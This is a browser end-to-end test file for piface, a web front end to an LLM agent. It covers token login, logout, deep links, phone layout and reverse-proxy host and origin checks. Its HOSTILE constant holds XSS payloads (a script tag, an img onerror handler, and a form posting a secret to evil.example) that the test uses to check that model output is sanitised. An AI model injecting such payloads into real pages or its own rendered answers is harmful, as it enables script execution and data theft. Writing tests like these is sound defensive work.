// Safe to reach from a phone, in Chromium against the real piface (login on by default): the login page and
// the login link, logging out, a login that ends while the app is open; a hostile model answer rendered
// inert; and piface behind two kinds of reverse proxy, reached under made-up names that Chromium resolves to
// loopback (`--host-resolver-rules`): one that keeps Host and adds X-Forwarded-* and Tailscale identity
// headers (like `tailscale serve`), one that rewrites Host to the upstream's address (nginx's default).
// PIFACE_E2E_FRESH_UI=1 (or PIFACE_E2E_UI_DIR=<build>) serves a fresh `npm run build` as the other suites do.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { freshUiProxy, guardedContext, http, launchBrowser, screenshotPath, startStack, upgradeStatus, waitFor } from './harness.mjs';
import { startProxy } from './proxy.mjs';

const TS_HOST = 'box.tail1234.ts.net';
const NGINX_HOST = 'piface.example';
const IDENTITY = { 'Tailscale-User-Login': 'alice@example.com', 'Tailscale-User-Name': 'Alice Example' };

/** What the fake model answers with (via `[[bash:cat hostile.html]]`: "tool said: <this>"). The probe is
 * harmless HTML that must survive, so the test knows raw HTML did reach the sanitiser. */
const HOSTILE = [
	'Inert check <b class="inert-probe">probe</b>',
	'',
	'<script>window.__pwned=1</script>',
	'',
	'<img src=x onerror="window.__pwned=2">',
	'',
	'<form action="http://evil.example/steal" method="post"><input name="q" value="secret"><button type="submit">Send it</button></form>',
	'',
	'<img src="http://remote.example/x.png" alt="remote picture">',
	''
].join('\n');

/** A stack (piface + fake LLM), and where its pages come from: piface itself, or a fresh-UI proxy. */
let plain;
let plainUi;
/** The same with `--allowed-host box.tail1234.ts.net --allowed-origin http://piface.example:<port>`. */
let open;
let openUi;
let browser;
const proxies = [];
/** Keep-Host and rewrite-Host proxies in front of `open` (allowed) and `plain` (not allowed). */
let tsOpen, tsClosed, nginxOpen, nginxClosed;
const pageErrors = [];
const foreignRequests = [];

/** A fresh-UI proxy in front of `stack` when the run asks for one. */
async function uiFor(stack) {
	const dir = process.env.PIFACE_E2E_UI_DIR;
	if (!process.env.PIFACE_E2E_FRESH_UI && !dir) return { url: stack.base, close: async () => {} };
	return freshUiProxy(stack.base, dir || undefined);
}

/** A page in a fresh context, not logged in unless `login` is given; `hosts` are the names it may reach. */
async function newPage(options = {}, { login = null, hosts } = {}) {
	const { context, foreign } = await guardedContext(browser, options, { login, ...(hosts ? { hosts } : {}) });
	const page = await context.newPage();
	page.on('pageerror', (e) => pageErrors.push(String(e)));
	page.on('console', (m) => {
		if (m.type() === 'error' && !/WebSocket|Failed to load resource|ERR_INTERNET_DISCONNECTED/.test(m.text())) pageErrors.push(m.text());
	});
	return { context, page, foreign };
}

async function closeContext(ctx) {
	foreignRequests.push(...ctx.foreign);
	await ctx.context.close();
}

const loginPage = (page) => page.getByRole('textbox', { name: 'Token' });
const dashboard = (page) => page.getByRole('button', { name: '+ New Session' });

async function logInWithForm(page, token) {
	await loginPage(page).fill(token);
	await page.getByRole('button', { name: 'Log in' }).click();
}

/** Creates a session with the dashboard's form (the page is on the dashboard) and waits for its live view. */
async function createSessionInUi(page, dir, name) {
	await dashboard(page).click();
	await page.locator('#ns-dir').fill(dir);
	await waitFor(async () => (await page.getByLabel('Model').inputValue()) === 'fake-model', { what: 'model list' });
	await page.getByLabel('Session Name').fill(name);
	await page.getByRole('button', { name: 'Create Session' }).click();
	await page.waitForURL(/\/session\/[0-9a-f-]+$/);
	await page.locator('.badge.conn-open').waitFor();
}

async function send(page, text) {
	const box = page.getByRole('textbox', { name: 'Message', exact: true });
	await box.fill(text);
	await box.press('Enter');
}

const overflow = (page) => page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);

describe('login, inert answers and proxies', { timeout: 600_000 }, () => {
	before(async () => {
		plain = await startStack();
		plainUi = await uiFor(plain);
		// The allowed origin names the rewrite-Host proxy's port, so that proxy listens first.
		nginxOpen = await startProxy({ mode: 'rewriteHost' });
		tsOpen = await startProxy({ mode: 'keepHost', identity: IDENTITY });
		open = await startStack(undefined, { serverArgs: ['--allowed-host', TS_HOST, '--allowed-origin', `http://${NGINX_HOST}:${nginxOpen.port}`] });
		openUi = await uiFor(open);
		nginxOpen.setTarget(openUi.url);
		tsOpen.setTarget(openUi.url);
		tsClosed = await startProxy({ mode: 'keepHost', identity: IDENTITY, target: plainUi.url });
		nginxClosed = await startProxy({ mode: 'rewriteHost', target: plainUi.url });
		proxies.push(nginxOpen, tsOpen, tsClosed, nginxClosed);
		browser = await launchBrowser(plain.bins, { args: [`--host-resolver-rules=MAP ${TS_HOST} 127.0.0.1, MAP ${NGINX_HOST} 127.0.0.1`] });
	});

	after(async () => {
		await browser?.close();
		const closing = [...proxies, plainUi, openUi].filter(Boolean).map((p) => p.close());
		await Promise.race([Promise.all(closing), new Promise((r) => setTimeout(r, 3000))]);
		await plain?.stop();
		await open?.stop();
	});

	test('without credentials the API and the sockets answer 401; with the token they work', async () => {
		const refused = await http(plain.base, 'GET', '/api/sessions', undefined, { auth: false });
		assert.equal(refused.status, 401);
		assert.match(refused.json.detail, /^Login required/);
		assert.equal((await http(plain.base, 'GET', '/api/sessions')).status, 200);
		assert.equal((await http(plain.base, 'GET', '/api/health', undefined, { auth: false })).status, 200, 'health stays public');
		assert.deepEqual((await http(plain.base, 'GET', '/api/auth/status', undefined, { auth: false })).json, { authenticated: false, mode: 'token', user: null });
		assert.equal(await upgradeStatus(plain.base, '/ws/dashboard', { auth: false }), 401);
		assert.equal(await upgradeStatus(plain.base, '/ws/dashboard'), 101);
	});

	test('the login page: a wrong token is refused, the right one opens the dashboard, Log out ends it', async () => {
		const ctx = await newPage({ viewport: { width: 1100, height: 800 } });
		const { page, context } = ctx;
		await page.goto(plainUi.url + '/');
		await loginPage(page).waitFor();
		assert.equal(await dashboard(page).count(), 0, 'nothing of the app before login');

		await logInWithForm(page, 'f'.repeat(64));
		const alert = page.getByRole('alert');
		await alert.waitFor();
		assert.match(await alert.innerText(), /That token is not valid/);
		assert.equal(await dashboard(page).count(), 0, 'a wrong token opens nothing');
		assert.equal((await context.cookies()).filter((c) => c.name === 'piface_auth').length, 0);
		await page.screenshot({ path: screenshotPath('login-wrong-token') });

		await logInWithForm(page, plain.token);
		await dashboard(page).waitFor();
		assert.equal(new URL(page.url()).pathname, '/');
		const cookie = (await context.cookies()).find((c) => c.name === 'piface_auth');
		assert.ok(cookie, 'the login set the cookie');
		assert.equal(cookie.httpOnly, true);
		assert.equal(cookie.sameSite, 'Strict');
		assert.ok(!cookie.value.includes(plain.token), 'the cookie is not the token itself');
		assert.equal(await page.evaluate(async () => (await fetch('/api/sessions')).status), 200, 'the page is logged in');
		await page.locator('.health-online').waitFor();

		await page.getByRole('button', { name: 'Log out' }).click();
		await loginPage(page).waitFor();
		assert.match(await page.getByRole('status').filter({ hasText: 'logged out' }).innerText(), /You are logged out/);
		assert.equal(await dashboard(page).count(), 0);
		assert.equal(await page.evaluate(async () => (await fetch('/api/sessions')).status), 401, 'the API refuses the page after logout');
		await closeContext(ctx);
	});

	test('a deep link waits behind the login page and opens once logged in', async () => {
		const created = await http(plain.base, 'POST', '/api/sessions', { working_dir: plain.project, provider: 'fake', model: 'fake-model', session_name: 'deep link', shared: true });
		assert.equal(created.status, 201, JSON.stringify(created.json));
		const ctx = await newPage({ viewport: { width: 1100, height: 800 } });
		const { page } = ctx;
		await page.goto(`${plainUi.url}/session/${created.json.piface_id}?tab=files`);
		await loginPage(page).waitFor();
		await logInWithForm(page, plain.token);
		await page.locator('.badge.conn-open').waitFor();
		assert.equal(await page.getByRole('heading', { name: 'deep link' }).count(), 1);
		const url = new URL(page.url());
		assert.equal(url.pathname, `/session/${created.json.piface_id}`);
		assert.equal(url.searchParams.get('tab'), 'files');
		await closeContext(ctx);
	});

	test('the login link logs in and leaves no token in the address bar; a wrong link says so', async () => {
		const ctx = await newPage({ viewport: { width: 1100, height: 800 } });
		const { page } = ctx;
		await page.goto(`${plainUi.url}/?token=${'0'.repeat(64)}`);
		await loginPage(page).waitFor();
		await waitFor(async () => !/[?&](token|login_error)=/.test(page.url()), { what: 'the address without token and login_error' });
		assert.match(await page.getByRole('alert').innerText(), /not valid/);
		assert.equal(await page.evaluate(() => location.search), '');

		await page.goto(`${plainUi.url}/?token=${plain.token}`);
		await dashboard(page).waitFor();
		await waitFor(async () => !page.url().includes('token'), { what: 'the address without the token' });
		assert.equal(page.url(), `${plainUi.url}/`);
		await closeContext(ctx);
	});

	test('a login that ends while the app is open brings the login page back, for an API call and for a socket', async () => {
		const ctx = await newPage({ viewport: { width: 1100, height: 800 } }, { login: plain });
		const { page, context } = ctx;
		await page.goto(plainUi.url + '/');
		await page.locator('.health-online').waitFor();

		// An API call answered 401: opening the form asks for the models.
		await context.clearCookies();
		await dashboard(page).click();
		await loginPage(page).waitFor();
		assert.match(await page.getByRole('alert').innerText(), /Your login has ended/);
		await logInWithForm(page, plain.token);
		await page.locator('.health-online').waitFor();

		// A socket refused: the dashboard's socket reconnects after the network comes back, is answered 401,
		// and the status check finds the login gone.
		await context.clearCookies();
		await context.setOffline(true);
		await page.waitForTimeout(300);
		await context.setOffline(false);
		await loginPage(page).waitFor({ timeout: 20_000 });
		assert.match(await page.getByRole('alert').innerText(), /Your login has ended/);
		await closeContext(ctx);
	});

	test('at 390 px the login page and the dashboard header with Log out fit', async () => {
		const ctx = await newPage({ viewport: { width: 390, height: 780 }, isMobile: true, hasTouch: true, deviceScaleFactor: 2 });
		const { page } = ctx;
		await page.goto(plainUi.url + '/');
		await loginPage(page).waitFor();
		assert.ok((await overflow(page)) <= 0, `the login page fits 390 px (overflow ${await overflow(page)}px)`);
		const field = await loginPage(page).boundingBox();
		assert.ok(field && field.x >= 0 && field.x + field.width <= 390 && field.width >= 250, `the token field is wide and inside (${JSON.stringify(field)})`);
		await page.screenshot({ path: screenshotPath('phone-login') });
		await logInWithForm(page, plain.token);
		await dashboard(page).waitFor();
		assert.ok((await overflow(page)) <= 0, `the dashboard fits 390 px (overflow ${await overflow(page)}px)`);
		const logout = await page.getByRole('button', { name: 'Log out' }).boundingBox();
		assert.ok(logout && logout.x >= 0 && logout.x + logout.width <= 390, `Log out is inside the viewport (${JSON.stringify(logout)})`);
		await page.screenshot({ path: screenshotPath('phone-dashboard-logout') });
		await closeContext(ctx);
	});

	test('a hostile model answer renders inert: no script runs, no form, no request leaves the origin', async () => {
		writeFileSync(join(plain.project, 'hostile.html'), HOSTILE);
		const created = await http(plain.base, 'POST', '/api/sessions', { working_dir: plain.project, provider: 'fake', model: 'fake-model', session_name: 'hostile', shared: true });
		assert.equal(created.status, 201, JSON.stringify(created.json));
		const ctx = await newPage({ viewport: { width: 1100, height: 900 } }, { login: plain });
		const { page } = ctx;
		const requested = [];
		page.on('request', (r) => requested.push(r.url()));
		await page.goto(`${plainUi.url}/session/${created.json.piface_id}`);
		await page.locator('.badge.conn-open').waitFor();
		await send(page, '[[bash:cat hostile.html]]');
		const answer = page.locator('.msg.assistant:not(.live)', { hasText: 'tool said:' }).locator('.markdown');
		// The probe proves raw HTML from the model reached the sanitiser and came out as elements.
		await answer.locator('b.inert-probe').waitFor();
		await page.waitForLoadState('networkidle');
		await page.waitForTimeout(500);

		assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no script of the answer ran');
		assert.equal(await answer.locator('script').count(), 0);
		assert.equal(await answer.locator('form, input, textarea, select, button:not(.copy-code)').count(), 0, 'no form or control in the answer');
		assert.equal(await page.locator('.feed-inner form').count(), 0, 'no form anywhere in the feed');
		assert.match(await answer.innerText(), /Send it/, "the button's label stays, as text");
		assert.equal(await answer.locator('img[onerror]').count(), 0);
		assert.equal(await answer.locator('img[src^="http"], img[src^="//"]').count(), 0, 'no remote image source');
		assert.equal(await answer.locator('img.remote-blocked[alt="remote picture"]').count(), 1, 'the remote image stays as its alt text');
		const html = await answer.innerHTML();
		assert.doesNotMatch(html, /evil\.example|remote\.example|onerror|__pwned/);
		const host = new URL(plainUi.url).host;
		const away = requested.filter((u) => /^(https?|wss?):/.test(u) && new URL(u).host !== host);
		assert.deepEqual(away, [], 'no request left the origin');
		assert.deepEqual(ctx.foreign, [], 'no request was blocked and no CSP violation happened');
		await page.screenshot({ path: screenshotPath('hostile-answer-inert') });
		await closeContext(ctx);
	});

	test(`behind a proxy that keeps Host (like tailscale serve), ${TS_HOST} logs in with the token and streams an answer`, async () => {
		const site = `http://${TS_HOST}:${tsOpen.port}`;
		const ctx = await newPage({ viewport: { width: 1100, height: 860 } }, { hosts: [TS_HOST] });
		const { page } = ctx;
		await page.goto(site + '/');
		await loginPage(page).waitFor();
		await logInWithForm(page, open.token);
		await dashboard(page).waitFor();
		await page.locator('.health-online').waitFor();
		await createSessionInUi(page, open.project, 'through tailscale serve');
		assert.ok(page.url().startsWith(site + '/session/'), page.url());
		await send(page, '[[tokens:40]] [[delay:15]] stream please');
		await page.locator('.msg.assistant.live').waitFor();
		const done = page.locator('.msg.assistant:not(.live)', { hasText: 't39' });
		await done.waitFor({ timeout: 30_000 });
		const words = (await done.locator('.markdown').innerText()).trim().split(/\s+/);
		assert.deepEqual(words, Array.from({ length: 40 }, (_, i) => `t${i}`));
		await closeContext(ctx);
	});

	test(`without --allowed-host ${TS_HOST}, the page's requests are refused with an error naming the flag`, async () => {
		const site = `http://${TS_HOST}:${tsClosed.port}`;
		const ctx = await newPage({ viewport: { width: 1100, height: 800 } }, { hosts: [TS_HOST] });
		const { page } = ctx;
		const statuses = [];
		page.on('response', (r) => statuses.push([new URL(r.url()).pathname, r.status()]));
		await page.goto(site + '/');
		// The UI shell may itself be refused (piface checks the Host of every request, the page included);
		// with a fresh UI served apart, the page loads and shows the refusal of its API calls.
		await waitFor(async () => /--allowed-host/.test(await page.locator('body').innerText()), { what: 'the refusal on the page' });
		assert.ok(statuses.some(([, s]) => s === 403), `a 403 came back (${JSON.stringify(statuses)})`);
		const alerts = page.getByRole('alert');
		const shown = (await alerts.count()) ? await alerts.first().innerText() : await page.locator('body').innerText();
		assert.match(shown, new RegExp(`--allowed-host ${TS_HOST.replaceAll('.', '\\.')}`), 'the error names the flag and the name to allow');
		assert.equal(await dashboard(page).count(), 0);
		assert.equal(await loginPage(page).count(), 0, 'no login page for a host that is refused anyway');
		await page.screenshot({ path: screenshotPath('proxy-host-refused') });
		await closeContext(ctx);
	});

	test(`behind a proxy that rewrites Host (like nginx), --allowed-origin lets the page create a session`, async () => {
		const site = `http://${NGINX_HOST}:${nginxOpen.port}`;
		const ctx = await newPage({ viewport: { width: 1100, height: 860 } }, { hosts: [NGINX_HOST] });
		const { page } = ctx;
		await page.goto(site + '/');
		await loginPage(page).waitFor();
		await logInWithForm(page, open.token);
		await dashboard(page).waitFor();
		await createSessionInUi(page, open.project, 'through nginx');
		assert.ok(page.url().startsWith(site + '/session/'), page.url());
		await send(page, 'hello through nginx');
		await page.locator('.msg.assistant:not(.live)', { hasText: 'echo: hello through nginx' }).waitFor();
		await closeContext(ctx);
	});

	test('behind a proxy that rewrites Host, without --allowed-origin creating a session is refused with 403', async () => {
		const site = `http://${NGINX_HOST}:${nginxClosed.port}`;
		const ctx = await newPage({ viewport: { width: 1100, height: 860 } }, { hosts: [NGINX_HOST] });
		const { page } = ctx;
		const posts = [];
		page.on('response', (r) => r.request().method() === 'POST' && posts.push([new URL(r.url()).pathname, r.status()]));
		// The login link is a GET: it works through this proxy; what acts (POST) does not.
		await page.goto(`${site}/?token=${plain.token}`);
		await dashboard(page).waitFor();
		const before = (await http(plain.base, 'GET', '/api/sessions')).json.sessions.length;
		await dashboard(page).click();
		await page.locator('#ns-dir').fill(plain.project);
		await waitFor(async () => (await page.getByLabel('Model').inputValue()) === 'fake-model', { what: 'model list' });
		await page.getByRole('button', { name: 'Create Session' }).click();
		const error = page.locator('.new-session').getByRole('alert');
		await error.waitFor();
		assert.match(await error.innerText(), new RegExp(`--allowed-origin http://${NGINX_HOST.replace('.', '\\.')}:${nginxClosed.port}`));
		assert.deepEqual(posts, [['/api/sessions', 403]]);
		assert.equal(new URL(page.url()).pathname, '/', 'still on the dashboard');
		assert.equal((await http(plain.base, 'GET', '/api/sessions')).json.sessions.length, before, 'no session was made');
		await page.screenshot({ path: screenshotPath('proxy-origin-refused') });
		await closeContext(ctx);
	});

	test('nothing was requested outside the origin, no CSP violation, no page error', () => {
		assert.deepEqual(foreignRequests, []);
		assert.deepEqual(pageErrors, []);
	});
});
